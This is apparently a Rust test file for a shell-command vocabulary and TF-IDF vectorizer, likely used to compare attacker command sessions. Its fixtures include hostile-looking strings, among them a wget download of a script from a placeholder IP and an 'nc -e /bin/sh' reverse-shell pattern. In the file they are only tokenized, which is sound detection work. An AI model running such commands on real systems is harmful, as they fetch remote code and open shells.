use proptest::prelude::*;

use super::*;

fn config(max_size: usize, ngram_max: usize, use_idf: bool) -> VocabularyConfig {
    VocabularyConfig {
        max_size,
        ngram_min: 1,
        ngram_max,
        use_idf,
    }
}

#[test]
fn observe_records_unigrams_and_bigrams() {
    let mut vocab = CommandVocabulary::new();
    vocab.observe("wget http://203.0.113.5/a.sh", &config(100, 2, true));

    assert!(vocab.get("wget").is_some());
    assert!(vocab.get("http://203.0.113.5/a.sh").is_some());
    assert!(vocab.get("wget http://203.0.113.5/a.sh").is_some());
    assert_eq!(vocab.documents_seen(), 1);
}

#[test]
fn document_frequency_deduplicates_within_a_command() {
    let mut vocab = CommandVocabulary::new();
    vocab.observe("ls ls ls", &config(100, 1, true));
    let entry = vocab.get("ls").unwrap();
    assert_eq!(entry.document_frequency, 1, "one document, one df bump");

    vocab.observe("ls -la", &config(100, 1, true));
    assert_eq!(vocab.get("ls").unwrap().document_frequency, 2);
}

#[test]
fn growth_stops_at_capacity_without_error() {
    let cfg = config(2, 1, true);
    let mut vocab = CommandVocabulary::new();
    vocab.observe("alpha beta gamma delta", &cfg);
    assert_eq!(vocab.len(), 2);
    assert!(vocab.get("gamma").is_none());

    // Known tokens keep accumulating document frequency past the cap.
    vocab.observe("alpha epsilon", &cfg);
    assert_eq!(vocab.len(), 2);
    assert_eq!(vocab.get("alpha").unwrap().document_frequency, 2);
}

#[test]
fn empty_command_is_not_a_document() {
    let mut vocab = CommandVocabulary::new();
    vocab.observe("   ", &config(100, 3, true));
    assert!(vocab.is_empty());
    assert_eq!(vocab.documents_seen(), 0);
}

#[test]
fn fingerprint_tracks_content() {
    let cfg = config(100, 2, true);
    let mut a = CommandVocabulary::new();
    let mut b = CommandVocabulary::new();
    a.observe("uname -a", &cfg);
    b.observe("uname -a", &cfg);
    assert_eq!(a.fingerprint(), b.fingerprint());

    b.observe("whoami", &cfg);
    assert_ne!(a.fingerprint(), b.fingerprint());
    assert_eq!(a.fingerprint().len(), 64);
}

#[test]
fn out_of_vocabulary_tokens_contribute_nothing() {
    let cfg = config(100, 1, true);
    let mut vocab = CommandVocabulary::new();
    vocab.observe("ls", &cfg);

    let vectorizer = CommandVectorizer::new(&vocab, &cfg);
    let vector = vectorizer.vectorize("nc -e /bin/sh");
    assert!(vector.is_empty());

    // Empty vs non-empty is maximally distant, empty vs empty identical.
    let known = vectorizer.vectorize("ls");
    assert_eq!(vector.cosine_distance(&known), 1.0);
    assert_eq!(vector.cosine_distance(&SparseVector::default()), 0.0);
}

#[test]
fn plain_term_frequency_when_idf_disabled() {
    let cfg = config(100, 1, false);
    let mut vocab = CommandVocabulary::new();
    vocab.observe("ls nc", &cfg);

    let vectorizer = CommandVectorizer::new(&vocab, &cfg);
    let vector = vectorizer.vectorize("ls ls nc");
    let weights: BTreeMap<usize, f64> = vector.entries.iter().copied().collect();
    let ls = vocab.get("ls").unwrap().index;
    let nc = vocab.get("nc").unwrap().index;
    assert!((weights[&ls] - 2.0 / 3.0).abs() < 1e-12);
    assert!((weights[&nc] - 1.0 / 3.0).abs() < 1e-12);
}

#[test]
fn idf_weights_rare_tokens_above_common_ones() {
    let cfg = config(100, 1, true);
    let mut vocab = CommandVocabulary::new();
    for _ in 0..9 {
        vocab.observe("ls", &cfg);
    }
    vocab.observe("nc", &cfg);

    let vectorizer = CommandVectorizer::new(&vocab, &cfg);
    let vector = vectorizer.vectorize("ls nc");
    let weights: BTreeMap<usize, f64> = vector.entries.iter().copied().collect();
    let ls = weights[&vocab.get("ls").unwrap().index];
    let nc = weights[&vocab.get("nc").unwrap().index];
    assert!(nc > ls, "rare token should outweigh common one: {nc} vs {ls}");
    assert!(ls > 0.0, "smoothed idf never zeroes a present token");
}

#[test]
fn identical_sequences_have_zero_distance() {
    let cfg = config(100, 3, true);
    let mut vocab = CommandVocabulary::new();
    let commands = vec!["uname -a".to_string(), "cat /proc/cpuinfo".to_string()];
    for c in &commands {
        vocab.observe(c, &cfg);
    }
    let vectorizer = CommandVectorizer::new(&vocab, &cfg);
    let a = vectorizer.vectorize_all(&commands);
    let b = vectorizer.vectorize_all(&commands);
    assert!(a.cosine_distance(&b) < 1e-12);
}

proptest! {
    // Vectorization must not care how the shell spaced its arguments:
    // any whitespace run tokenizes the same as a single space.
    #[test]
    fn whitespace_runs_are_equivalent(tokens in proptest::collection::vec("[a-z0-9/._-]{1,8}", 1..6)) {
        let cfg = config(1000, 3, true);
        let canonical = tokens.join(" ");
        let padded = tokens.join(" \t  ");

        let mut vocab = CommandVocabulary::new();
        vocab.observe(&canonical, &cfg);
        let vectorizer = CommandVectorizer::new(&vocab, &cfg);
        prop_assert_eq!(vectorizer.vectorize(&canonical), vectorizer.vectorize(&padded));
    }

    #[test]
    fn cosine_distance_is_bounded_and_symmetric(
        left in proptest::collection::vec("[a-z]{1,6}", 0..5),
        right in proptest::collection::vec("[a-z]{1,6}", 0..5),
    ) {
        let cfg = config(1000, 2, true);
        let mut vocab = CommandVocabulary::new();
        let left = left.join(" ");
        let right = right.join(" ");
        vocab.observe(&left, &cfg);
        vocab.observe(&right, &cfg);

        let vectorizer = CommandVectorizer::new(&vocab, &cfg);
        let a = vectorizer.vectorize(&left);
        let b = vectorizer.vectorize(&right);
        let d_ab = a.cosine_distance(&b);
        let d_ba = b.cosine_distance(&a);
        prop_assert!((0.0..=1.0).contains(&d_ab));
        prop_assert!((d_ab - d_ba).abs() < 1e-12);
        prop_assert!(a.cosine_distance(&a) < 1e-9);
    }
}
